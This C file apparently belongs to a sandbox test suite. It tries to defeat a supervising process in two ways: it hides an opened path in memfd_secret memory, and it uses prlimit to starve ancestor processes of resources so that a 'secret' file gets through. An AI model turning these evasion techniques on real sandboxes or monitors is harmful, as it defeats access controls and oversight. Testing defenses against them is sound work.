// Takes from the processes above it what they need, so that they let something through, and
// hides paths from them. argv: a directory with the files secret and public, what to do, and
// how many generations up.
#include "attack.h"
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/wait.h>

static char *dir;

static int parent_of(int pid)
{
	char line[512] = "";
	int fd = MUST(open(format("/proc/%d/stat", pid), O_RDONLY));

	if (read(fd, line, sizeof(line) - 1) <= 0)
		exit(1);
	close(fd);
	return atoi(strrchr(line, ')') + 4);
}

// The path is in memory that the kernel reads for nobody else.
static int by_hidden_path(void)
{
	int fd = syscall(SYS_memfd_secret, 0);
	char *page;

	if (fd < 0 || ftruncate(fd, 4096))
		return -1;
	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (page == MAP_FAILED)
		return -1;
	snprintf(page, 4096, "%s/secret", dir);
	return open(page, O_RDONLY);
}

static const struct {
	const char *name;
	int resource;
} limits[] = {
	{ "nofile", RLIMIT_NOFILE }, { "fsize", RLIMIT_FSIZE }, { "as", RLIMIT_AS },
	{ "nproc", RLIMIT_NPROC },   { "stack", RLIMIT_STACK }, { "memlock", RLIMIT_MEMLOCK },
};

int main(int argc, char **argv)
{
	int pid = getpid();

	dir = argv[1];
	if (!strcmp(argv[2], "hide")) {
		opened("secret", by_hidden_path());
		opened("innocent", open(format("%s/public", dir), O_RDONLY));
		return 0;
	}
	for (int i = 0; i < atoi(argv[3]); i++)
		pid = parent_of(pid);
	for (size_t i = 0; i < sizeof(limits) / sizeof(*limits); i++) {
		struct rlimit none = { 0 };

		if (!strcmp(argv[2], limits[i].name))
			tell("limit", prlimit(pid, limits[i].resource, &none, NULL));
	}
	for (int i = 0; i < 100; i++) {
		char *name = format("%s/secret", dir);
		int fd = open(name, O_RDONLY);

		if (fd >= 0) {
			opened("secret", fd);
			return 0;
		}
		if (!open(format("%s/public", dir), O_RDONLY))
			return 1;
	}
	tell("secret", -1);
	return 0;
}
